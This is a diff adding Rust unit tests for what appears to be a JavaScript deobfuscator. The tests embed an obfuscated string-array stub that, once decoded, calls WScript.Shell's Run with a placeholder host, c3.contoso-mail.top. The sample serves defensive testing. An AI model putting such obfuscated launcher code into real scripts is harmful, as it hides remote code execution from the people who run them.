@@ -115,6 +115,71 @@ mod tests {
         inner.unwrap_or_default().to_owned()
     }
 
+    /// Texts in Base64 in a list that is turned once, and what fetches them.
+    const STUB: &str = r#"
+        var l = ['aHR0cDovL2MzLmNvbnRvc28tbWFpbC50b3AveA==', 'V1NjcmlwdC5TaGVsbA==', 'UnVu'];
+        (function(a, n) { var t = function(i) { while (--i) { a['push'](a['shift']()); } }; t(++n); }(l, 1));
+        var d = function(i) {
+            i = i - 0;
+            var v = l[i];
+            if (d['is'] === undefined) {
+                (function() {
+                    var g;
+                    try {
+                        g = Function('return (function() ' + '{}.constructor("return this")( )' + ');')();
+                    } catch (e) { g = window; }
+                    g['atob'] || (g['atob'] = function(x) { return x; });
+                }());
+                d['of'] = function(x) {
+                    var b = atob(x), h = '';
+                    for (var j = 0; j < b.length; j++) { h += '%' + ('00' + b.charCodeAt(j).toString(16)).slice(-2); }
+                    return decodeURIComponent(h);
+                };
+                d['known'] = {};
+                d['is'] = !![];
+            }
+            var k = d['known'][i];
+            if (k === undefined) { v = d['of'](v); d['known'][i] = v; } else { v = k; }
+            return v;
+        };
+    "#;
+
+    #[test]
+    fn a_decoder_in_a_variable_that_asks_for_the_global_object_is_undone() {
+        let text = format!("{STUB}\nnew ActiveXObject(d('0x0'))[d('0x1')](d('0x2'), d('0x0'), d('0x1'));");
+        let done = undo(&text, &mut Budget::new(text.len()));
+        let clear =
+            "new ActiveXObject(\"WScript.Shell\").Run(\"http://c3.contoso-mail.top/x\", \"WScript.Shell\", \"Run\");\n";
+        assert_eq!(done.text.as_deref(), Some(clear));
+        assert!(done.steps.iter().any(|step| step.0 == Technique::StringArray), "{:?}", done.steps);
+    }
+
+    #[test]
+    fn the_way_to_the_global_object_is_nothing_hidden() {
+        // Whatever else of the text is not known.
+        let text = format!("{}\nx(d(y));", STUB.replace("i = i - 0", "i = i - z"));
+        let done = undo(&text, &mut Budget::new(text.len()));
+        assert!(done.text.is_none() && done.found.is_empty(), "{done:?}");
+    }
+
+    #[test]
+    fn code_made_of_a_text_sees_what_the_whole_text_declares() {
+        assert_eq!(becomes("Function('a', 'b', 'return a + b')('p', 'q')"), "\"pq\"");
+        for left in [
+            "(function() { var hidden = 'in'; return Function('return hidden')() + ''; })()",
+            "(function() { var unescape = (t) => t; return Function('return unescape(\"%41\")')(); })() + y",
+            "Function('y = 1; return \"a\" + y')()",
+            "Function('}, function() { return \"a\"')()",
+            "eval('\"a\"') + \"b\"",
+        ] {
+            let done = becomes(left);
+            assert!(done.is_empty() || done.contains("Function(") || done.contains("eval("), "{left}: {done}");
+        }
+        let text = "var w = String.fromCharCode(104, 116, 116, 112);\nx(w);\nfunction atob(t) {\n\treturn t;\n}\nx(Function(\"return atob('QUI=')\")());";
+        let done = undo(text, &mut Budget::new(text.len())).text.unwrap_or_default();
+        assert!(!done.contains("AB"), "{done}");
+    }
+
     /// As Node.js has them.
     #[test]
     fn values_are_those_of_the_language() {
